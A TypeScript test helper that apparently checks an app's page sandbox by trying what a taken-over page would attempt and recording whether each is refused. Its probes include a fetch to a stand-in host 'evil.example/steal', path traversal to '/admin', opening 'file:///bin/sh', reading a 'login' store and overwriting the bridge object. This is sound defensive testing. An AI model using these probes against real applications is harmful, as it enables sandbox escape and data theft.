/** What a page that has been taken over would try first. Runs in the page; answers what came of each. */
export async function attempts() {
  const outcome = async (run: () => unknown): Promise<string> => {
    try {
      return `done ${JSON.stringify(await run())?.slice(0, 80)}`;
    } catch (error) {
      return `refused ${(error as Error).name}`;
    }
  };
  const bridge = window as unknown as {
    intray: Record<string, (input: unknown) => Promise<{ ok: boolean; refusal?: { code: string } }>>;
  };
  const code = async (verb: string, input: unknown) => (await bridge.intray[verb]?.(input))?.refusal?.code;
  return {
    fetch: await outcome(() => fetch('https://evil.example/steal')),
    own: await outcome(() => fetch('/index.html')),
    // In a task of the page's own: what a debugger runs is let through.
    eval: await new Promise((resolve) => {
      // biome-ignore lint/security/noGlobalEval: that is what is tried
      setTimeout(() => resolve(outcome(() => window.eval('1'))), 0);
    }),
    frozen: Reflect.set(bridge.intray, 'ask', () => Promise.reject(new Error('mine'))),
    replaced: await outcome(() => Object.defineProperty(window, 'intray', { value: {} })),
    require: typeof (window as unknown as { require?: unknown }).require,
    process: typeof (window as unknown as { process?: unknown }).process,
    verbs: Object.keys(bridge.intray).sort(),
    foreignPath: await code('ask', { method: 'GET', path: '//evil.example/' }),
    upwards: await code('ask', { method: 'GET', path: '/trpc/../admin' }),
    oversized: await code('sendToSocket', { socket: 1, text: 'x'.repeat(2 * 1024 * 1024) }),
    program: await code('openLink', { url: 'file:///bin/sh' }),
    otherShelf: await code('readKept', { shelf: 'login' }),
    withFunction: await outcome(() => bridge.intray.ask?.({ method: () => 'GET' })),
  };
}
